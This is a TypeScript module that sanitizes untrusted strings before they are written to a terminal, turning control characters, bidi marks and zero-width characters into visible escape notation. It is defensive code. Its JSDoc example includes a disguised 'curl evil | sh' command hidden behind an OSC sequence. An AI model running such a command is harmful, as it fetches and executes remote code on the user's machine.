/*
 * Everything that reaches a terminal from content is untrusted: an agent's
 * text, a file it read, a command a repository wrote, a tool name, a
 * diagnostic quoting a line of input, a file name on the command line. A
 * terminal interprets C0 controls (ESC starts every escape sequence, BEL ends
 * OSC strings, CR returns to the start of the line), C1 controls (U+009B is a
 * one-character CSI for terminals that accept 8-bit controls, U+009D an OSC,
 * U+0090 a DCS), bidi formatting characters (which reorder what a person
 * sees) and zero-width characters (which hide that two strings differ). Each
 * of them is replaced with its escape notation, `\x1b` or `\u202e`, so it
 * shows instead of acting, and nothing is removed: the payload of an escape
 * sequence stays on screen as the printable text it is, so a preview cannot
 * hide part of a command. Nothing else changes.
 */

// C0 but TAB, LF and CR; DEL; C1; the bidi marks, embeddings, overrides and
// isolates; zero-width space, word joiner and invisible operators; BOM; line
// and paragraph separators (some terminals break lines at them).
const ALWAYS = '\\x00-\\x08\\x0b\\x0c\\x0e-\\x1f\\x7f-\\x9f\\u061c\\u200b\\u200e\\u200f\\u2028-\\u202e\\u2060-\\u2064\\u2066-\\u2069\\ufeff';
// ZWNJ and ZWJ join letters in Persian and Indic scripts and build emoji
// sequences; next to ASCII (or alone) they only disguise an identifier or a
// command, so there they are shown.
const JOINER_BY_ASCII = '[\\u200c\\u200d](?:(?![\\u0080-\\uffff])|(?<![\\u0080-\\uffff][\\u200c\\u200d]))';
// Tab, LF and CR followed by LF lay text out; a lone CR would overwrite the line.
const UNSAFE_IN_TEXT = new RegExp(`[${ALWAYS}]|\\r(?!\\n)|${JOINER_BY_ASCII}`, 'g');
// A one-line field must not break its line either.
const UNSAFE_IN_LINE = new RegExp(`[${ALWAYS}\\t\\n\\r]|${JOINER_BY_ASCII}`, 'g');

// Every character either expression can match, in one class: a string with
// none of them (nearly every string) is returned after one plain scan, where
// the expressions' alternatives and look-arounds cost twice as much on long
// text and `replace` with a callback more again per short string (a text
// delta): bench/FINDINGS.md.
const MAYBE_UNSAFE_IN_TEXT = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;
const MAYBE_UNSAFE_IN_LINE = /[\x00-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2064\u2066-\u2069\ufeff]/;

function visible(char: string): string {
  const code = char.charCodeAt(0);
  return code <= 0xff ? `\\x${code.toString(16).padStart(2, '0')}` : `\\u${code.toString(16).padStart(4, '0')}`;
}

/** How {@link neutralizeForTerminal} treats layout characters. */
export type TerminalLayout = 'line' | 'text';

/**
 * The one gate for every string from content that is written to a terminal,
 * by the terminal renderer and by `xview` on standard output and standard
 * error alike. C0 and C1 controls, DEL, the ESC of every escape sequence
 * (CSI, OSC, DCS, SOS, PM, APC and two-character ones), bidi controls and
 * zero-width characters become visible escape notation (`\x1b`, `\u202e`);
 * nothing is executed and nothing is removed.
 *
 * `'line'` (the default), for a field shown on one line (a name, a preview,
 * a reason, a file name): TAB, LF and CR are made visible too. `'text'`, for
 * text that flows over lines: TAB, LF and CRLF stay, a lone CR is made
 * visible. A string without such characters is returned unchanged.
 *
 * @example
 * ```ts
 * neutralizeForTerminal('npm test\u009d; curl evil | sh\u0007'); // 'npm test\\x9d; curl evil | sh\\x07'
 * ```
 */
export function neutralizeForTerminal(text: string, layout: TerminalLayout = 'line'): string {
  if (layout === 'text') return MAYBE_UNSAFE_IN_TEXT.test(text) ? text.replace(UNSAFE_IN_TEXT, visible) : text;
  return MAYBE_UNSAFE_IN_LINE.test(text) ? text.replace(UNSAFE_IN_LINE, visible) : text;
}

/** {@link neutralizeForTerminal} with the `'text'` layout: for text that flows over lines. */
export function sanitizeText(text: string): string {
  return neutralizeForTerminal(text, 'text');
}

/** {@link neutralizeForTerminal} with the `'line'` layout: for a field shown on one line. */
export function sanitizeLine(text: string): string {
  return neutralizeForTerminal(text, 'line');
}
